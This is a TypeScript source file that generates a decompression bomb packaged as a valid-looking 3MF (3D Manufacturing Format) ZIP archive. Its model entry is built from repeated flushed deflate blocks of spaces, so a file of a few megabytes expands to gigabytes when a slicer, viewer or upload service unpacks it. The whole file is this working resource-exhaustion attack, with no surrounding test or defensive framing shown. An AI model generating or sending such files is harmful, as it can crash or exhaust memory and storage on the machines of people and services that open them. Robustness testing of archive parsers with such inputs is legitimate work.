// A 3-D Manufacturing Format file (.3mf, a ZIP archive) of some 3 MB whose model unpacks to gigabytes of spaces.

import { constants, deflateRawSync } from "node:zlib";

interface Entry {
  readonly name: string;
  readonly packed: Buffer;
  readonly size: number;
  readonly crc: number;
}

const kTypes = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="model" ContentType="application/vnd.ms-package.3dmanufacturing-3dmodel+xml"/></Types>';
const kRelations = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Target="/3D/3dmodel.model" Id="rel0" Type="http://schemas.microsoft.com/3dmanufacturing/2013/01/3dmodel"/>' +
  "</Relationships>";
const kHead = '<?xml version="1.0"?><model unit="millimeter" ' +
  'xmlns="http://schemas.microsoft.com/3dmanufacturing/core/2015/02"><resources>';

/** As ZIP archives have it: polynomial 0xedb88320, reflected. */
function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; ++bit) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

function entryOf(name: string, text: string): Entry {
  const content = Buffer.from(text);
  return { name, packed: deflateRawSync(content), size: content.length, crc: crc32(content) };
}

/** One deflated block of spaces, many times: it is flushed whole, so that copies of it can follow each other. */
function bombEntry(name: string, copies: number): Entry {
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const spaces = Buffer.alloc(1 << 24, " ");
  const head = deflateRawSync(kHead, flush);
  const block = deflateRawSync(spaces, flush);
  const end = deflateRawSync("");
  return {
    name, packed: Buffer.concat([head, ...Array<Buffer>(copies).fill(block), end]),
    size: kHead.length + copies * spaces.length, crc: 0,
  };
}

function header(signature: number, { name, packed, size, crc }: Entry, extra: number[]): Buffer {
  const central = signature === 0x02014b50;
  const bytes = Buffer.alloc(central ? 46 : 30);
  let at = bytes.writeUInt32LE(signature);
  if (central) at = bytes.writeUInt16LE(20, at);
  for (const value of [20, 0, 8, 0, 0]) at = bytes.writeUInt16LE(value, at);
  for (const value of [crc, packed.length, size]) at = bytes.writeUInt32LE(value, at);
  at = bytes.writeUInt16LE(name.length, at);
  if (central) bytes.writeUInt32LE(extra[0]!, 42);
  return Buffer.concat([bytes, Buffer.from(name)]);
}

/** `gigabytes` below 4: the sizes of a ZIP archive have 32 bits. */
export function zipBomb(gigabytes: number): Buffer {
  const entries = [entryOf("[Content_Types].xml", kTypes), entryOf("_rels/.rels", kRelations),
    bombEntry("3D/3dmodel.model", gigabytes * 64)];
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    directory.push(header(0x02014b50, entry, [offset]));
    const file = Buffer.concat([header(0x04034b50, entry, []), entry.packed]);
    files.push(file);
    offset += file.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(Buffer.concat(directory).length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...files, ...directory, end]);
}
